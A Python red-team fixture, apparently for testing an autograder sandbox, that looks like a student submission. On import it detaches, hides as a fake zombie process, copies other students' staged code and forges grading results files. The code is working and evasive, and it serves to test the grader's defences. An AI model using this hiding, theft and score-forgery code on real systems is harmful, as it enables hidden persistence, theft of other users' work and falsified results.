"""Red-team fixture: a detached process that no process-table scan finds.

At import it double-forks and calls ``setsid``; the grandchild names itself, starts a thread and
then ends only its *main thread* with the raw ``exit`` system call. The process then shows as a
zombie (state ``Z``) in ``/proc`` while its thread keeps running: it writes a heartbeat, copies
other students' staged code it can find and forges its own results file (TARGETS).

The test writes ``hostile_paths.py`` (SHARED, TARGETS, MARK) next to this file.
"""
import ctypes
import os
import threading
import time

from hostile_paths import MARK, SHARED, TARGETS

FORGED = b'{"score": 20, "tests": [], "output": "forged by a zombie leader"}\n'
_SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(os.uname().machine, 60)


def _steal_staged_code():
    for root in ("/tmp", "/var/tmp"):
        try:
            entries = os.listdir(root)
        except OSError:
            continue
        for entry in entries:
            folder = os.path.join(root, entry)
            try:
                names = os.listdir(folder)
            except OSError:
                continue
            for name in names:
                if not name.endswith(".py"):
                    continue
                try:
                    with open(os.path.join(folder, name), "rb") as f:
                        data = f.read(1 << 20)
                except OSError:
                    continue
                if b"VICTIM-SECRET" in data:
                    try:
                        with open(os.path.join(SHARED, f"stolen-by-zombie-{entry}-{name}"), "wb") as f:
                            f.write(data)
                    except OSError:
                        pass


def _daemon_loop():
    for _ in range(4500):  # about fifteen minutes, unless something ends it
        try:
            with open(os.path.join(SHARED, "heartbeat-zombie"), "a") as f:
                f.write(f"{os.getpid()} {time.time()}\n")
        except OSError:
            pass
        _steal_staged_code()
        for target in TARGETS:
            try:
                with open(target + ".forged", "wb") as f:
                    f.write(FORGED)
                os.replace(target + ".forged", target)
            except OSError:
                pass
        time.sleep(0.2)


def _leave_zombie_leader():
    if os.fork() != 0:
        time.sleep(0.5)  # let it start
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(15, MARK.encode()[:15], 0, 0, 0)  # PR_SET_NAME, inherited by the thread
    threading.Thread(target=_daemon_loop, daemon=False).start()
    libc.syscall(_SYS_EXIT, 0)  # ends this thread only: the process lives on as a "zombie"


_leave_zombie_leader()


def step_argument(batch_size, mean):
    raise NotImplementedError


def train_step(net, trainer, loss, X, y):
    raise NotImplementedError
